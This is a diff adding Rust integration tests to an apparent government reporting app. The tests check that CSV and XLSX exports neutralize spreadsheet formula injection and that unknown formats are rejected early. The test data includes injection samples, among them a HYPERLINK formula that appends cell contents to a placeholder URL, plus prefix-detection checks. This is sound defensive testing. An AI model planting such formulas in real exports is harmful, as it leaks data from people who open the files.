@@ -246,7 +246,113 @@ async fn reports_read_back_and_match_the_database(app: TestApp) {
     );
 }
 
-on_both_databases!(reports_read_back_and_match_the_database);
+/// A district's text that a spreadsheet program would run as a formula comes out as text:
+/// prefixed with `'` in the CSV, and a plain string cell (no formula) in the XLSX.
+async fn report_cells_never_read_as_formulas(app: TestApp) {
+    open_window(&app, "2024", 48).await.data();
+    let tayson = app.client("tayson").await;
+    let texts = [
+        ("summary", "=HYPERLINK(\"http://x\"&A1,\"y\")"),
+        ("results", "@SUM(1)"),
+        ("difficulties", "+1+1"),
+        ("proposals", "-2+3"),
+    ];
+    let mut input = json!({ "taskId": task_id(&app, "I", Some(2)).await, "periodCode": "2024" });
+    for (field, text) in texts {
+        input[field] = json!(text);
+    }
+    let saved = save(&tayson, input).await;
+    let id = saved.data()["saveSubmission"]["id"].as_str().unwrap();
+    crate::fixtures::submit(&tayson, id, 1).await.data();
+    let coordinator = app.login("coordinator").await;
+    // Summary, results, difficulties and proposals are columns 6 to 9.
+    let neutralized: Vec<String> = texts.iter().map(|(_, t)| format!("'{t}")).collect();
+    let tay_son_row = |rows: &[Vec<String>]| -> Vec<String> {
+        rows.iter()
+            .find(|r| r[0] == "I" && r[1] == "2" && r[3] == "Ủy ban nhân dân huyện Tây Sơn")
+            .expect("Tây Sơn's row of task I.2")[6..10]
+            .to_vec()
+    };
+
+    let (status, _, bytes) = get(
+        &app,
+        &format!("/reports/{PLAN_IN_URL}/2024.csv"),
+        Some(&coordinator),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    let csv_rows: Vec<Vec<String>> = csv::Reader::from_reader(&bytes[3..])
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    assert_eq!(tay_son_row(&csv_rows), neutralized);
+    for cell in csv_rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a CSV cell reads as a formula: {cell}"
+        );
+    }
+
+    let (status, _, bytes) = get(
+        &app,
+        &format!("/reports/{PLAN_IN_URL}/2024.xlsx"),
+        Some(&coordinator),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    assert_eq!(tay_son_row(&sheet(&bytes, "Báo cáo")), neutralized);
+    let mut workbook: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).unwrap();
+    for name in ["Báo cáo", "Tổng hợp"] {
+        let formulas = workbook.worksheet_formula(name).unwrap();
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "no cell of {name} is a formula"
+        );
+        let cells = workbook.worksheet_range(name).unwrap();
+        for (_, _, cell) in cells.used_cells() {
+            if let Data::String(text) = cell {
+                assert!(
+                    !text.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{name}: {text}"
+                );
+            }
+        }
+    }
+}
+
+/// An unknown format is refused before anything is built: no SQL statement runs.
+async fn unknown_report_format_is_refused_before_any_work(app: TestApp) {
+    let coordinator = app.login("coordinator").await;
+    let before = app.statement_count();
+    let (status, content_type, bytes) = get(
+        &app,
+        &format!("/reports/{PLAN_IN_URL}/2024.pdf"),
+        Some(&coordinator),
+    )
+    .await;
+    assert_eq!(status, StatusCode::BAD_REQUEST);
+    assert!(
+        content_type.starts_with("application/json"),
+        "{content_type}"
+    );
+    let body: serde_json::Value = serde_json::from_slice(&bytes).expect("a JSON error");
+    // The report endpoint's own error shape, or a GraphQL-shaped one.
+    let code = body["error"]["code"]
+        .as_str()
+        .or(body["errors"][0]["extensions"]["code"].as_str());
+    assert_eq!(code, Some("BAD_USER_INPUT"), "{body}");
+    assert_eq!(
+        app.statement_count(),
+        before,
+        "no database work for an unknown format"
+    );
+}
+
+on_both_databases!(
+    reports_read_back_and_match_the_database,
+    report_cells_never_read_as_formulas,
+    unknown_report_format_is_refused_before_any_work
+);
 
 /// The XLSX reads correctly in LibreOffice: converted by it to CSV, it holds the same
 /// cells as our own CSV. Runs where `soffice` is installed, and says so where it is not.
